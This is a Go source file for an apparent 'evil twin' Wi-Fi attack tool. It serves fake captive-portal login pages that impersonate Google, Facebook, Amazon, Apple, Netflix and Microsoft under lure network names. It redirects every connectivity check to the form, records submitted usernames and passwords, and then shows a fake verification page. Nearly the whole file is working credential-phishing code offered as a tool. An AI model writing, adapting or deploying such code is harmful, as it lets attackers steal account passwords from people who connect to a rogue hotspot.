package eviltwin

import (
	"html/template"
	"net/http"

	"github.com/gorilla/mux"
)

// Portal identifiers match the controller's w1..w7 selectors; 0 is the
// stop selector and never maps to a portal.
const (
	PortalDefault   = 1
	PortalGoogle    = 2
	PortalFacebook  = 3
	PortalAmazon    = 4
	PortalApple     = 5
	PortalNetflix   = 6
	PortalMicrosoft = 7
)

type portalDef struct {
	Name  string
	Title string

	// DefaultSSID is advertised when no AP config was set.
	DefaultSSID string
}

var portals = map[int]portalDef{
	PortalDefault:   {Name: "Default", Title: "WiFi Authentication Required", DefaultSSID: "Free WiFi"},
	PortalGoogle:    {Name: "Google", Title: "Sign in with your Google Account", DefaultSSID: "Google Starbucks"},
	PortalFacebook:  {Name: "Facebook", Title: "Log in to Facebook to continue", DefaultSSID: "Facebook WiFi"},
	PortalAmazon:    {Name: "Amazon", Title: "Amazon account verification", DefaultSSID: "Amazon Lounge"},
	PortalApple:     {Name: "Apple", Title: "Sign in with your Apple ID", DefaultSSID: "Apple Store"},
	PortalNetflix:   {Name: "Netflix", Title: "Netflix account verification", DefaultSSID: "Netflix Lounge"},
	PortalMicrosoft: {Name: "Microsoft", Title: "Sign in to your Microsoft account", DefaultSSID: "Microsoft WiFi"},
}

// PortalName resolves a selector to its display name; "" when unknown.
func PortalName(id int) string {
	return portals[id].Name
}

// ValidPortal reports whether id selects a servable portal.
func ValidPortal(id int) bool {
	_, ok := portals[id]
	return ok
}

// Page bodies stay minimal: the capture works off the form fields, not
// the styling.
var formTmpl = template.Must(template.New("portal").Parse(`<!DOCTYPE html>
<html>
<head><meta name="viewport" content="width=device-width, initial-scale=1"><title>{{.Title}}</title></head>
<body>
<h2>{{.Title}}</h2>
<p>Connect to <b>{{.SSID}}</b> to get online.</p>
<form method="POST" action="/login">
<input type="text" name="username" placeholder="Email or username" required><br>
<input type="password" name="password" placeholder="Password" required><br>
<button type="submit">Connect</button>
</form>
</body>
</html>
`))

var verifyTmpl = template.Must(template.New("verify").Parse(`<!DOCTYPE html>
<html>
<head><meta http-equiv="refresh" content="4;url=/portal"><title>Connecting</title></head>
<body><p>Verifying credentials, please wait...</p></body>
</html>
`))

// router wires the captive-portal handlers. Every path the OS probes
// after association (generate_204, hotspot-detect.html, ncsi.txt, ...)
// funnels into the redirect.
func (t *Twin) router() *mux.Router {
	r := mux.NewRouter()
	r.HandleFunc("/portal", t.handleForm).Methods(http.MethodGet)
	r.HandleFunc("/login", t.handleSubmit).Methods(http.MethodPost)
	r.PathPrefix("/").HandlerFunc(t.handleRedirect)
	return r
}

func (t *Twin) handleRedirect(w http.ResponseWriter, r *http.Request) {
	http.Redirect(w, r, "/portal", http.StatusFound)
}

func (t *Twin) handleForm(w http.ResponseWriter, r *http.Request) {
	t.mu.Lock()
	def := portals[t.portal]
	ssid := t.activeSSID()
	t.mu.Unlock()

	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	_ = formTmpl.Execute(w, struct {
		Title string
		SSID  string
	}{Title: def.Title, SSID: ssid})
}

func (t *Twin) handleSubmit(w http.ResponseWriter, r *http.Request) {
	if err := r.ParseForm(); err != nil {
		http.Redirect(w, r, "/portal", http.StatusFound)
		return
	}
	username := r.FormValue("username")
	password := r.FormValue("password")
	if username == "" && password == "" {
		http.Redirect(w, r, "/portal", http.StatusFound)
		return
	}

	t.recordCredential(username, password)

	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	_ = verifyTmpl.Execute(w, nil)
}
